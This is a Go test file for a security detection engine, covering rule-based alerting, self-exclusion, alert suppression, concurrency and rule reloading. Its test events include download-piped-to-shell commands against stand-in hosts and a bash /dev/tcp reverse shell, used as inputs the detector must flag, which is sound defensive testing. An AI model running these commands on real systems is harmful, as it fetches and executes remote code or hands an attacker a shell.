package detect_test

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/detect"
	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/rules"
	"github.com/vigil-sec/vigil/internal/rules/eventmix"
	"github.com/vigil-sec/vigil/internal/shareddata"
)

var t0 = time.Date(2025, 6, 1, 10, 0, 0, 0, time.UTC)

// downloadRule is the pack's "Download Piped Into A Shell".
const downloadRule = "b3d9b0dc-188b-5ece-81c3-a75452eae54f"

// execEvent is an exec of bash -c cmd at t0+off with its own event ID.
func execEvent(off time.Duration, cmd string) event.Event {
	e := eventmix.Exec(t0.Add(off), "/usr/bin/bash", "bash", "-c", cmd)
	e.Event.ID = event.DeterministicID(t0.Add(off), cmd)
	return *e
}

type recorder struct {
	mu     sync.Mutex
	alerts []detect.Alert
}

func (r *recorder) Notify(a detect.Alert) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.alerts = append(r.alerts, a)
}

func mustNew(t *testing.T, opts detect.Options) *detect.Detector {
	t.Helper()
	if opts.Logger == nil {
		opts.Logger = slog.New(slog.DiscardHandler)
	}
	d, err := detect.New(opts)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func process(t *testing.T, d *detect.Detector, evs ...event.Event) []detect.Alert {
	t.Helper()
	as, err := d.Process(context.Background(), evs)
	if err != nil {
		t.Fatal(err)
	}
	return as
}

func TestPackAlert(t *testing.T) {
	rec := &recorder{}
	d := mustNew(t, detect.Options{Notifier: rec})
	if n := len(d.Problems()); n != 0 {
		t.Fatalf("the pack has %d problems: %v", n, d.Problems())
	}
	ev := execEvent(0, "curl -s http://203.0.113.7/x.sh | sh")
	benign := execEvent(time.Second, "ls -la /srv")
	got := process(t, d, ev, benign)
	if len(got) != 1 {
		t.Fatalf("got %d alerts, want 1: %+v", len(got), got)
	}
	a := got[0]
	if a.Rule.ID != downloadRule || a.Status != detect.StatusOpen || a.Host.Name != "web1" || a.Count != 1 {
		t.Errorf("alert %+v", a)
	}
	if !slices.Contains(a.Tags, "attack.t1059.004") || !slices.Equal(a.EventIDs, []string{ev.Event.ID}) {
		t.Errorf("tags %v event ids %v", a.Tags, a.EventIDs)
	}
	stored, err := d.Store().GetAlert(context.Background(), a.ID)
	if err != nil || stored.Count != 1 {
		t.Errorf("stored alert %+v, %v", stored, err)
	}
	if len(rec.alerts) != 1 || rec.alerts[0].ID != a.ID {
		t.Errorf("notified %d alerts, want the one new alert", len(rec.alerts))
	}
}

func TestSelfNotAlerted(t *testing.T) {
	self, err := os.Executable()
	if err != nil {
		t.Skip("no executable path:", err)
	}
	d := mustNew(t, detect.Options{SelfExecutables: []string{"/opt/vigil/bin/vigil"}})
	cmd := "curl -s http://203.0.113.7/x.sh | sh"
	cases := []struct {
		name  string
		edit  func(e *event.Event)
		alert bool
	}{
		{"other process", func(*event.Event) {}, true},
		{"running binary", func(e *event.Event) { e.Process.Executable = self }, false},
		{"configured agent path", func(e *event.Event) { e.Process.Executable = "/opt/vigil/bin/vigil" }, false},
		{"replaced binary", func(e *event.Event) { e.Process.Executable = "/opt/vigil/bin/vigil (deleted)" }, false},
		{"child of vigil", func(e *event.Event) { e.Process.Parent.Executable = "/opt/vigil/bin/vigil" }, false},
		{"server's own event", func(e *event.Event) { e.Event.Dataset = "vigil.server" }, false},
		{"similar name elsewhere", func(e *event.Event) { e.Process.Executable = "/tmp/vigil" }, true},
		{"agent.type alone", func(e *event.Event) { e.Agent.Type = "vigil" }, true},
	}
	for i, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			ev := execEvent(time.Duration(i)*time.Hour, cmd)
			c.edit(&ev)
			if got := d.IsSelf(&ev); got == c.alert {
				t.Errorf("IsSelf = %v", got)
			}
			if got := process(t, d, ev); (len(got) > 0) != c.alert {
				t.Errorf("%d alerts, want alert %v", len(got), c.alert)
			}
		})
	}
}

func TestSuppression(t *testing.T) {
	rec := &recorder{}
	d := mustNew(t, detect.Options{Notifier: rec, Suppression: 10 * time.Minute})
	cmd := "wget -qO- http://203.0.113.7/x | bash"
	first := process(t, d, execEvent(0, cmd))
	second := process(t, d, execEvent(5*time.Minute, cmd), execEvent(6*time.Minute, cmd))
	if len(first) != 1 || len(second) != 1 || second[0].ID != first[0].ID {
		t.Fatalf("repeats within the window: %+v then %+v, want the same alert", first, second)
	}
	if c := second[0].Count; c != 3 || !second[0].LastSeen.Equal(t0.Add(6*time.Minute)) {
		t.Errorf("count %d last_seen %v, want 3 and t0+6m", c, second[0].LastSeen)
	}
	third := process(t, d, execEvent(17*time.Minute, cmd))
	if len(third) != 1 || third[0].ID == first[0].ID || third[0].Count != 1 {
		t.Errorf("repeat after the window: %+v, want a new alert", third)
	}
	if len(rec.alerts) != 2 {
		t.Errorf("notified %d times, want 2 (the repeats fold silently)", len(rec.alerts))
	}
	all, _ := d.Store().ListAlerts(context.Background(), detect.Filter{})
	if len(all) != 2 {
		t.Errorf("%d stored alerts, want 2", len(all))
	}
}

func TestConcurrentProcess(t *testing.T) {
	d := mustNew(t, detect.Options{Suppression: -1})
	var wg sync.WaitGroup
	for w := range 4 {
		wg.Go(func() {
			for i := range 20 {
				ev := execEvent(time.Duration(w*100+i)*time.Second, "curl http://x.example/a | sh")
				if _, err := d.Process(context.Background(), []event.Event{ev}); err != nil {
					t.Error(err)
				}
			}
		})
	}
	wg.Wait()
	all, _ := d.Store().ListAlerts(context.Background(), detect.Filter{})
	if len(all) != 1 || all[0].Count != 80 {
		t.Errorf("%d alerts (count %d), want 1 with count 80", len(all), all[0].Count)
	}
}

type failingStore struct{ detect.AlertStore }

var errDown = errors.New("database down")

func (failingStore) UpsertAlert(context.Context, detect.Alert, time.Duration) (detect.Alert, bool, error) {
	return detect.Alert{}, false, errDown
}

func TestStoreError(t *testing.T) {
	d := mustNew(t, detect.Options{Store: failingStore{}})
	_, err := d.Process(context.Background(), []event.Event{execEvent(0, "curl http://x/a | sh")})
	if !errors.Is(err, errDown) {
		t.Errorf("Process = %v, want the store's error", err)
	}
}

func TestMissingRuleDir(t *testing.T) {
	_, err := detect.New(detect.Options{RuleDirs: []string{filepath.Join(t.TempDir(), "nope")}})
	if err == nil {
		t.Error("New with a missing rule directory succeeded")
	}
}

// ruleYAML is a process_creation rule matching command lines containing marker.
func ruleYAML(n int, marker string) string {
	return fmt.Sprintf(`title: Marker %[2]s
id: 00000000-0000-4000-8000-%012[1]d
status: test
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        CommandLine|contains: '%[2]s'
    condition: selection
level: high
tags:
    - attack.execution
`, n, marker)
}

// writeRule writes a rule file with a modification time of its own, so that
// a poll sees the change even on a coarse clock.
func writeRule(t *testing.T, path, content string, gen int) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	mt := t0.Add(time.Duration(gen) * time.Second)
	if err := os.Chtimes(path, mt, mt); err != nil {
		t.Fatal(err)
	}
}

// fires reports which markers raise an alert now.
func fires(t *testing.T, d *detect.Detector, markers ...string) []string {
	t.Helper()
	var out []string
	for i, m := range markers {
		off := time.Duration(len(markers)*100+i) * time.Hour // past any window
		if len(process(t, d, execEvent(off, "echo "+m))) > 0 {
			out = append(out, m)
		}
	}
	return out
}

func TestReload(t *testing.T) {
	dir := t.TempDir()
	a, b := filepath.Join(dir, "a.yml"), filepath.Join(dir, "sub", "b.yaml")
	writeRule(t, a, ruleYAML(1, "alpha-marker"), 1)
	d := mustNew(t, detect.Options{NoPack: true, RuleDirs: []string{dir}, Suppression: time.Nanosecond})
	ctx := context.Background()
	reload := func(want bool) {
		t.Helper()
		changed, err := d.Reload(ctx)
		if err != nil || changed != want {
			t.Fatalf("Reload = %v, %v; want changed %v", changed, err, want)
		}
	}
	check := func(want ...string) {
		t.Helper()
		got := fires(t, d, "alpha-marker", "beta-marker", "gamma-marker")
		if !slices.Equal(got, want) {
			t.Fatalf("firing %v, want %v (problems %v)", got, want, d.Problems())
		}
	}
	check("alpha-marker")
	reload(false)

	if err := os.Mkdir(filepath.Dir(b), 0o755); err != nil {
		t.Fatal(err)
	}
	writeRule(t, b, ruleYAML(2, "beta-marker"), 2)
	reload(true)
	check("alpha-marker", "beta-marker")

	// a.yml breaks: its previous version keeps running.
	writeRule(t, a, strings.Replace(ruleYAML(1, "gamma-marker"), "condition: selection", "condition: selection and nosuch", 1), 3)
	reload(true)
	check("alpha-marker", "beta-marker")
	ps := d.Problems()
	hasProblem := func(file, text string) bool {
		return slices.ContainsFunc(ps, func(p rules.Problem) bool { return p.File == file && strings.Contains(p.Message, text) })
	}
	if len(ps) != 2 || !hasProblem(a, "nosuch") || !hasProblem(a, "previous version") {
		t.Errorf("problems %v, want a.yml's error and that its previous version runs", ps)
	}

	// Unparseable YAML in a new file is reported; the others run.
	c := filepath.Join(dir, "c.yml")
	writeRule(t, c, "title: [unclosed\n", 4)
	reload(true)
	check("alpha-marker", "beta-marker")
	if !slices.ContainsFunc(d.Problems(), func(p rules.Problem) bool { return strings.HasPrefix(p.String(), c) }) {
		t.Errorf("problems %v do not name %s", d.Problems(), c)
	}

	// a.yml fixed with a new marker; b removed.
	writeRule(t, a, ruleYAML(1, "gamma-marker"), 5)
	if err := os.Remove(b); err != nil {
		t.Fatal(err)
	}
	reload(true)
	check("gamma-marker")
}

func TestRunPolls(t *testing.T) {
	dir := t.TempDir()
	d := mustNew(t, detect.Options{NoPack: true, RuleDirs: []string{dir}, Poll: 5 * time.Millisecond})
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- d.Run(ctx) }()
	writeRule(t, filepath.Join(dir, "new.yml"), ruleYAML(7, "delta-marker"), 1)
	deadline := time.Now().Add(30 * time.Second)
	for d.Set().Len() == 0 && time.Now().Before(deadline) {
		time.Sleep(5 * time.Millisecond)
	}
	cancel()
	if err := <-done; err != nil {
		t.Errorf("Run = %v", err)
	}
	if got := fires(t, d, "delta-marker"); len(got) != 1 {
		t.Errorf("rule added while Run polls did not load (rules %d)", d.Set().Len())
	}
}

func TestSigmaHQDirectory(t *testing.T) {
	dir := filepath.Join(shareddata.Dir(t, "sigma_linux_rules"), "rules", "linux")
	d := mustNew(t, detect.Options{RuleDirs: []string{dir}})
	sigmaRules := d.Set().Len() - mustNew(t, detect.Options{}).Set().Len()
	if sigmaRules < 200 {
		t.Errorf("%d SigmaHQ rules loaded with the pack, want at least 200", sigmaRules)
	}
	if n := len(d.Problems()); n*100 > sigmaRules {
		t.Errorf("%d problems for %d rules, more than 1%%: %v", n, sigmaRules, d.Problems())
	}
	// The pack and SigmaHQ both see a reverse shell.
	ev := execEvent(0, "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
	if got := process(t, d, ev); len(got) < 2 {
		t.Errorf("reverse shell raised %d alerts with the pack and SigmaHQ loaded, want at least 2", len(got))
	}
}
